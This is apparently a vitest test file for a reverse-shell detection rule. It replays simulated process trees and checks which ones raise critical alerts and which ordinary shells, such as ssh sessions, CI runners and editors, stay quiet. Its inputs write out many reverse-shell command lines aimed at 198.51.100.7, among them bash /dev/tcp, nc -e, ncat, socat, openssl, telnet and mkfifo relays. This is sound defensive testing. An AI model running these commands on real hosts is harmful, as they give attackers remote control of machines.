import { describe, expect, it } from 'vitest';
import { inet, pipes, socket, Machine } from '../../../test/machine.ts';
import { make, tryOut } from '../testing.ts';
import { reverseShell } from './behaviour.ts';

const stage = (): Machine => new Machine(reverseShell);

describe('a shell whose streams are a connection', () => {
  it('of bash itself: it connects in the child that becomes the shell', () => {
    const s = stage();
    const outer = s.spawn(s.worker(), '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
    const inner = s.fork(outer);
    s.connect(inner);
    s.exec(inner, '/usr/bin/bash', 'bash -i', { extra: socket });
    expect(s.levels).toEqual(['critical']);
    expect(s.found[0]).toMatchObject({ group: { peer: '198.51.100.7:4444', origin_en: 'the web service php-fpm' } });
  });

  it.each([
    ['/usr/bin/python3.11', 'python3 -c import socket,subprocess,os'], ['/usr/bin/perl', 'perl -e use Socket'], ['/usr/bin/php8.2', 'php -r $sock=fsockopen'],
    ['/usr/bin/ruby3.1', 'ruby -rsocket -e c=TCPSocket.new'], ['/usr/bin/lua5.4', 'lua -e local s=require'], ['/tmp/.x/agent', '/tmp/.x/agent'],
  ])('of %s that connected and started it', (path, cmdline) => {
    const s = stage();
    const code = s.spawn(s.cron('/opt/job'), path, cmdline);
    s.connect(code);
    const shell = s.spawn(code, '/usr/bin/dash', '/bin/sh -i', { extra: socket });
    s.spawn(shell, '/usr/bin/bash', 'bash', { extra: socket });
    expect(s.levels).toEqual(['critical']);
  });

  it('is told without any lineage where the sensor names the family, and not where it cannot', () => {
    const time = Date.UTC(2026, 1, 1);
    const event = (extra: Record<string, string>): ReturnType<typeof make> => make('process_creation', time, { action: 'process-start', source: 'ebpf', pid: 7, process_started: time, process_path: '/usr/bin/bash', process_cmdline: 'bash -i', extra });
    const { run, found } = tryOut(reverseShell);
    run.observe(event({ ...socket }));
    expect(found).toEqual([]);
    run.observe(event({ ...inet }));
    expect(found.map((d) => d.level)).toEqual(['critical']);
  });

  it('under another name, from a temporary folder', () => {
    const s = stage();
    const code = s.spawn(s.cron('/opt/job'), '/usr/bin/python3.11', 'python3 /opt/job.py');
    s.connect(code);
    s.spawn(code, '/tmp/kworker', '/tmp/kworker -i', { extra: socket });
    expect(s.levels).toEqual(['critical']);
  });

  it('of a shell script that reads commands from its own connection', () => {
    const s = stage();
    const bash = s.spawn(s.login(), '/usr/bin/bash', 'bash');
    s.connect(bash);
    s.spawn(bash, '/usr/bin/cat', 'cat', { extra: { stdin: 'socket', stdout: 'pipe' } });
    expect(s.levels).toEqual([]);
    const loop = s.fork(bash);
    s.spawn(loop, '/usr/bin/ls', 'ls', { extra: { stdin: 'pipe', stdout: 'socket', stderr: 'socket' } });
    expect(s.levels).toEqual(['critical']);
  });

  it('of awk with its own network', () => {
    const s = stage();
    const awk = s.spawn(s.login(), '/usr/bin/gawk', 'awk BEGIN{s="/inet/tcp/0/198.51.100.7/4242"}');
    s.connect(awk, '198.51.100.7', 4242);
    s.spawn(awk, '/usr/bin/dash', 'sh -c id', { extra: { stdout: 'pipe' } });
    expect(s.levels).toEqual(['critical']);
  });
});

describe('a shell and a relay', () => {
  it('nc -e becomes the shell', () => {
    const s = stage();
    const nc = s.spawn(s.login(), '/usr/bin/nc.traditional', 'nc -e /bin/sh 198.51.100.7 4444');
    s.connect(nc);
    s.exec(nc, '/usr/bin/dash', 'sh', { extra: socket });
    expect(s.levels).toEqual(['critical']);
    expect(s.found[0]?.group).toMatchObject({ peer: '198.51.100.7:4444', source_ip: '203.0.113.9' });
  });

  it('nc -c and ncat -c put a shell between', () => {
    const s = stage();
    const nc = s.spawn(s.login(), '/usr/bin/ncat', 'ncat 198.51.100.7 4444 -c bash -i');
    s.connect(nc);
    s.spawn(s.spawn(nc, '/usr/bin/dash', 'sh -c bash -i', { extra: pipes }), '/usr/bin/bash', 'bash -i', { extra: pipes });
    expect(s.levels).toEqual(['critical']);
  });

  it('socat opens a terminal for it, also when called from outside', () => {
    const s = stage();
    const socat = s.spawn(s.login(), '/usr/bin/socat', 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:bash,pty,stderr,setsid');
    const child = s.fork(socat);
    s.accept(child, 4444, '198.51.100.7');
    s.spawn(child, '/usr/bin/bash', 'bash');
    expect(s.levels).toEqual(['critical']);
  });

  it.each([['/usr/bin/nc.openbsd', 'nc 198.51.100.7 4444'], ['/usr/bin/openssl', 'openssl s_client -quiet -connect 198.51.100.7:4444'], ['/usr/bin/inetutils-telnet', 'telnet 198.51.100.7 4444']])('%s in a ring of pipes', (path, cmdline) => {
    const s = stage();
    const sh = s.spawn(s.worker(), '/usr/bin/dash', 'sh -c mkfifo /tmp/f;…');
    s.spawn(sh, '/usr/bin/cat', 'cat /tmp/f');
    const shell = s.spawn(sh, '/usr/bin/dash', '/bin/sh -i', { extra: pipes });
    const relay = s.spawn(sh, path, cmdline, { extra: pipes });
    expect(s.levels).toEqual([]);
    s.connect(relay);
    expect(s.levels).toEqual(['critical']);
    expect(s.found[0]?.key).toBe(`${relay}:${s.node(relay).started}`);
    expect(s.node(shell).ended).toBeUndefined();
  });

  it('telnet before and behind the shell', () => {
    const s = stage();
    const bash = s.cron('telnet 198.51.100.7 1 | sh | telnet 198.51.100.7 2');
    const telnet = s.spawn(bash, '/usr/bin/telnet', 'telnet 198.51.100.7 1', { extra: { stdout: 'pipe' } });
    s.connect(telnet, '198.51.100.7', 1);
    s.spawn(bash, '/usr/bin/dash', 'sh', { extra: pipes });
    expect(s.levels).toEqual(['critical']);
  });
});

describe('a shell on a terminal that a program made', () => {
  it('python pty under a web worker or from a one-liner', () => {
    const s = stage();
    const python = s.spawn(s.login(), '/usr/bin/python3.11', 'python3 -c import socket,pty;…');
    s.connect(python);
    s.spawn(python, '/usr/bin/bash', '/bin/bash');
    expect(s.levels).toEqual(['critical']);
  });

  it('php of the web server opens pipes to a shell', () => {
    const s = stage();
    const worker = s.worker();
    s.connect(worker);
    const sh = s.spawn(worker, '/usr/bin/dash', 'sh -c uname -a; /bin/sh -i', { extra: pipes });
    s.spawn(sh, '/usr/bin/dash', '/bin/sh -i', { extra: pipes });
    expect(s.levels).toEqual(['critical']);
  });

  it('node starts it first and connects then', () => {
    const s = stage();
    const other = s.spawn(1, '/usr/bin/node', 'node /tmp/s.js');
    s.spawn(other, '/usr/bin/dash', '/bin/sh', { extra: socket });
    expect(s.levels).toEqual([]);
    s.connect(other);
    expect(s.levels).toEqual(['high']);
  });
});

describe('ordinary shells stay quiet', () => {
  it('log-on shells, also when sshd asks a directory first, and commands over ssh', () => {
    const s = stage();
    s.seen('/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener]', { pid: 800 });
    s.accept(800, 22);
    const child = s.fork(s.fork(800));
    s.connect(child, '10.0.0.2', 389);
    s.connect(child, '10.0.0.2', 8080);
    s.exec(child, '/usr/bin/bash', '-bash');
    const other = s.fork(s.fork(800));
    s.exec(other, '/usr/bin/bash', 'bash -c rsync --server', { extra: socket });
    s.spawn(s.fork(800), '/usr/bin/bash', 'bash', { extra: socket });
    expect(s.levels).toEqual([]);
  });

  it('installers piped into sh, configuration management, CI, editors, health checks, agents of monitoring', () => {
    const s = stage();
    const admin = s.login();
    // curl … | sh
    const curl = s.spawn(admin, '/usr/bin/curl', 'curl -fsSL https://get.example/', { extra: { stdout: 'pipe' } });
    s.connect(curl, '203.0.113.80', 443);
    s.spawn(admin, '/usr/bin/dash', 'sh', { extra: pipes });
    // ansible's module on this machine
    const ansible = s.spawn(admin, '/usr/bin/python3.11', '/usr/bin/python3 /root/.ansible/tmp/AnsiballZ_uri.py');
    s.connect(ansible, '203.0.113.80', 443);
    s.spawn(ansible, '/usr/bin/dash', '/bin/sh -c systemctl is-active nginx', { extra: pipes });
    // poetry shell after it asked the index
    const poetry = s.spawn(admin, '/usr/bin/python3.11', '/usr/bin/python3 /home/wang/.local/bin/poetry shell');
    s.connect(poetry, '203.0.113.80', 443);
    s.spawn(poetry, '/usr/bin/bash', '/bin/bash');
    // an editor's server: terminal and language servers
    const editor = s.spawn(admin, '/home/wang/.vscode-server/bin/abc/node', 'node server-main.js');
    s.connect(editor, '203.0.113.80', 443);
    s.spawn(editor, '/usr/bin/bash', '/bin/bash --init-file /home/wang/.vscode-server/x.sh');
    s.spawn(editor, '/usr/bin/dash', '/bin/sh -c git status', { extra: socket });
    // a shell behind a socket unit of this machine, below something that also connected; a unit that speaks to the journal
    const broker = s.daemon('broker', '/usr/bin/python3.11', '/usr/bin/python3 /srv/broker.py');
    s.connect(broker, '203.0.113.80', 443);
    const between = { stdin: 'unix', stdout: 'unix', stderr: 'unix' };
    s.spawn(s.daemon('console@1', '/usr/bin/dash', '/bin/sh -i'), '/usr/bin/bash', 'bash -i', { extra: between });
    s.spawn(broker, '/usr/bin/dash', '/bin/sh -c exec /srv/step', { extra: between });
    s.spawn(broker, '/srv/step', '/srv/step', { extra: between });
    // gitlab-runner hands its script to bash by a pipe
    const runner = s.daemon('gitlab-runner', '/usr/local/bin/gitlab-runner', 'gitlab-runner run');
    s.connect(runner, '203.0.113.80', 443);
    s.spawn(runner, '/usr/bin/bash', 'bash --login', { extra: pipes });
    // wait until a port answers
    const wait = s.spawn(admin, '/usr/bin/bash', 'bash -c exec 3<>/dev/tcp/10.0.0.8/8080; cat <&3 | grep ok');
    s.connect(wait, '10.0.0.8', 8080);
    s.spawn(wait, '/usr/bin/cat', 'cat', { extra: { stdin: 'socket', stdout: 'pipe' } });
    s.spawn(wait, '/usr/bin/grep', 'grep ok', { extra: { stdin: 'pipe' } });
    // a monitoring script behind a socket unit
    s.spawn(1, '/usr/bin/bash', '/bin/bash /usr/bin/check_mk_agent', { extra: inet });
    // node calls git
    const app = s.daemon('shop', '/usr/bin/node', 'node /srv/shop/server.js');
    s.connect(app, '10.0.0.8', 5432);
    s.spawn(app, '/usr/bin/dash', '/bin/sh -c git rev-parse HEAD', { extra: socket });
    // socat hands connections to a script
    const socat = s.daemon('answer', '/usr/bin/socat', 'socat TCP-LISTEN:7000,fork EXEC:/usr/local/bin/answer.sh');
    s.spawn(socat, '/usr/bin/bash', '/bin/bash /usr/local/bin/answer.sh', { extra: pipes });
    expect(s.found.map((d) => [d.level, d.events[0]?.process_cmdline])).toEqual([]);
  });
});
